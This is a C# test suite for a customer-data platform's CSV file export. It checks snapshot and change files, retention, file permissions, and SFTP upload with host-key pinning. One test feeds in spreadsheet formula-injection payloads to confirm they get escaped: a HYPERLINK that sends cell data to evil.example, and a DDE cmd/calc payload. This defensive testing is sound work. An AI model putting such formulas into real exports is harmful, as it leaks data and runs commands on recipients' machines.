using Microsoft.Extensions.Time.Testing;
using System.Text;
using Cdp.Modules.Activation.Contracts;
using Cdp.Tests.Support;
using CsvHelper;

namespace Cdp.Tests.Activation;

/// <summary>CSV files in a folder (snapshot or added/removed), read back with CsvHelper; SFTP upload to a real sshd on loopback.</summary>
public sealed class CsvFileSyncTests : IDisposable
{
    private readonly TempFolder _out = new();
    private ActivationHarness? _harness;

    public static TheoryData<string> Providers => CdpHost.Providers;

    private ActivationHarness Start(Dictionary<string, string?>? extra = null, TimeProvider? clock = null, string? provider = null)
    {
        var settings = new Dictionary<string, string?>
        {
            ["Cdp:Destinations:drop:Type"] = "CsvFile",
            ["Cdp:Destinations:drop:Folder"] = _out.Path,
            ["Cdp:Syncs:export:Segment"] = "vip",
            ["Cdp:Syncs:export:Destination"] = "drop",
            ["Cdp:Syncs:export:Cron"] = "0 * * * *",
            ["Cdp:Syncs:export:FieldMappings:first_name"] = "traits.first_name",
        };
        foreach (var (k, v) in extra ?? []) settings[k] = v;
        return _harness = new ActivationHarness(settings, clock: clock, provider: provider);
    }

    public void Dispose()
    {
        _harness?.Dispose();
        _out.Dispose();
    }

    private static async Task<List<string[]>> ReadCsv(string path)
    {
        await using var stream = File.OpenRead(path);
        await using var csv = CsvReader.Create(stream, new CsvReaderOptions { HasHeader = false }, false);
        var rows = new List<string[]>();
        while (await csv.ReadAsync(CancellationToken.None))
            rows.Add(Enumerable.Range(0, csv.FieldCount).Select(i => csv.GetString(i)).ToArray());
        return rows;
    }

    private string[] Files(string pattern = "*") => Directory.GetFiles(_out.Path, pattern).Order(StringComparer.Ordinal).ToArray();

    [SkippableTheory]
    [MemberData(nameof(Providers))]
    public async Task A_snapshot_lists_every_current_member_and_no_temporary_file_is_left(string provider)
    {
        var clock = new FakeTimeProvider(DateTimeOffset.UtcNow);
        var h = Start(clock: clock, provider: provider);
        var ids = await h.SeedAsync([.. ActivationHarness.People(3), new Person("u9", "quote\"comma,@example.com", FirstName: "Zoë, \"Z\"")]);
        h.Segments.Set("vip", ids);

        var run = await h.RunAsync("export");

        run.Status.Should().Be(SyncRunStatus.Succeeded, string.Join("; ", run.Errors));
        var file = Files().Should().ContainSingle().Subject;
        file.Should().EndWith(".csv");
        if (!OperatingSystem.IsWindows()) File.GetUnixFileMode(file).Should().Be(UnixFileMode.UserRead | UnixFileMode.UserWrite, "the members' data is the owner's alone");
        var rows = await ReadCsv(file);
        rows[0].Should().Equal("email", "profile_id", "first_name");
        rows.Skip(1).Select(r => r[0]).Should().BeEquivalentTo("person1@example.com", "person2@example.com", "person3@example.com", "quote\"comma,@example.com");
        rows.Single(r => r[0].StartsWith("quote")).Should().Equal("quote\"comma,@example.com", h.ProfileOf("u9"), "Zoë, \"Z\"");

        h.Segments.Set("vip", ids.Skip(1));
        clock.Advance(TimeSpan.FromSeconds(1)); // file names carry the run's second
        var second = await h.RunAsync("export");
        second.Counts.Removed.Should().Be(1);
        second.Counts.Unchanged.Should().Be(3);
        var latest = await ReadCsv(Files().Last());
        latest.Skip(1).Select(r => r[0]).Should().NotContain("person1@example.com").And.HaveCount(3);
        Directory.GetFiles(_out.Path, "*.tmp").Should().BeEmpty();
    }

    public static readonly TheoryData<bool> EscapeSettings = new() { true, false };

    [Theory]
    [MemberData(nameof(EscapeSettings))]
    public async Task Cells_a_spreadsheet_would_run_as_formulas_get_a_leading_quote_unless_EscapeFormulas_is_off(bool escape)
    {
        var h = Start(new() { ["Cdp:Destinations:drop:EscapeFormulas"] = escape ? "true" : "false", ["Cdp:Destinations:drop:Output"] = "Changes" });
        string[] hostile = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click me\")", "+SUM(1,2)", "-2+3", "@SUM(1+1)", "=cmd|' /C calc'!A0", "\tTab", "\rReturn", "Plain - fine"];
        var ids = await h.SeedAsync(hostile.Select((name, i) => new Person($"u{i}", $"person{i}@example.com", FirstName: name)));
        h.Segments.Set("vip", ids);

        var run = await h.RunAsync("export");

        run.Status.Should().Be(SyncRunStatus.Succeeded, string.Join("; ", run.Errors));
        var rows = (await ReadCsv(Files("*-added.csv").Single())).Skip(1).ToDictionary(r => r[0], r => r[2]);
        for (var i = 0; i < hostile.Length; i++)
        {
            var expected = escape && hostile[i][0] is '=' or '+' or '-' or '@' or '\t' or '\r' ? "'" + hostile[i] : hostile[i];
            rows[$"person{i}@example.com"].Should().Be(expected);
        }
        var preview = await h.RunAsync("export", dryRun: true, full: true);
        preview.FirstPayload.Should().Contain(escape ? "'+SUM(1,2)" : "+SUM(1,2)");
        if (escape) preview.FirstPayload.Should().NotContain(",+SUM(1,2)");
    }

    [SkippableTheory]
    [MemberData(nameof(Providers))]
    public async Task Changes_mode_writes_added_and_removed_files_and_retention_keeps_the_newest(string provider)
    {
        var h = Start(new() { ["Cdp:Destinations:drop:Output"] = "Changes", ["Cdp:Destinations:drop:RetainFiles"] = "2", ["Cdp:Destinations:drop:Delimiter"] = ";" }, provider: provider);
        var ids = await h.SeedAsync(ActivationHarness.People(4));
        h.Segments.Set("vip", ids);
        await h.RunAsync("export");

        h.Segments.Set("vip", ids.Skip(1));
        var run = await h.RunAsync("export");
        run.Counts.Removed.Should().Be(1);
        var removed = Files("*-removed.csv").Last();
        var rows = await ReadCsvWith(removed, ';');
        rows.Should().HaveCount(2);
        rows[1].Should().Equal("person1@example.com", h.ProfileOf("u1"));
        (await ReadCsvWith(Files("*-added.csv").Last(), ';')).Should().HaveCount(1, "nobody was added or changed: only the header");

        await h.RunAsync("export");
        Files("*-added.csv").Should().HaveCount(2, "RetainFiles = 2");
        Files("*-removed.csv").Should().HaveCount(2);
    }

    private static async Task<List<string[]>> ReadCsvWith(string path, char separator)
    {
        await using var stream = File.OpenRead(path);
        await using var csv = CsvReader.Create(stream, new CsvReaderOptions { HasHeader = false, Separator = separator }, false);
        var rows = new List<string[]>();
        while (await csv.ReadAsync(CancellationToken.None))
            rows.Add(Enumerable.Range(0, csv.FieldCount).Select(i => csv.GetString(i)).ToArray());
        return rows;
    }

    [SkippableFact]
    public async Task Files_are_uploaded_by_SFTP_to_a_server_whose_host_key_matches_the_pinned_fingerprint()
    {
        Skip.If(LoopbackSshd.MissingReason is not null, LoopbackSshd.MissingReason);
        using var sshd = new LoopbackSshd();
        var h = Start(Sftp(sshd, sshd.HostKeyFingerprint));
        var ids = await h.SeedAsync(ActivationHarness.People(3));
        h.Segments.Set("vip", ids);

        var run = await h.RunAsync("export");

        run.Status.Should().Be(SyncRunStatus.Succeeded, string.Join("; ", run.Errors) + string.Join("\n", sshd.Log));
        var uploaded = Directory.GetFiles(sshd.RemoteFolder).Should().ContainSingle().Subject;
        Path.GetFileName(uploaded).Should().Be(Path.GetFileName(Files().Single()));
        (await File.ReadAllBytesAsync(uploaded)).Should().Equal(await File.ReadAllBytesAsync(Files().Single()));
        (await ReadCsv(uploaded)).Should().HaveCount(4);
    }

    [SkippableFact]
    public async Task A_server_with_another_host_key_is_refused_and_the_members_are_not_committed()
    {
        Skip.If(LoopbackSshd.MissingReason is not null, LoopbackSshd.MissingReason);
        using var sshd = new LoopbackSshd();
        var h = Start(Sftp(sshd, "SHA256:" + Convert.ToBase64String(new byte[32]).TrimEnd('=')));
        var ids = await h.SeedAsync(ActivationHarness.People(2));
        h.Segments.Set("vip", ids);

        var run = await h.RunAsync("export");

        run.Status.Should().Be(SyncRunStatus.Failed);
        run.Errors.Should().ContainSingle().Which.Should().Contain("host key");
        Directory.GetFiles(sshd.RemoteFolder).Should().BeEmpty();
        h.Syncs.Find("export")!.Members.Should().Be(0, "the upload is the acknowledgment: nothing is committed without it");
    }

    private static Dictionary<string, string?> Sftp(LoopbackSshd sshd, string fingerprint) => new()
    {
        ["Cdp:Destinations:drop:Sftp:Host"] = "127.0.0.1",
        ["Cdp:Destinations:drop:Sftp:Port"] = sshd.Port.ToString(),
        ["Cdp:Destinations:drop:Sftp:User"] = sshd.User,
        ["Cdp:Destinations:drop:Sftp:PrivateKeyPath"] = sshd.PrivateKeyPath,
        ["Cdp:Destinations:drop:Sftp:HostKeyFingerprint"] = fingerprint,
        ["Cdp:Destinations:drop:Sftp:RemoteFolder"] = sshd.RemoteFolder,
    };
}
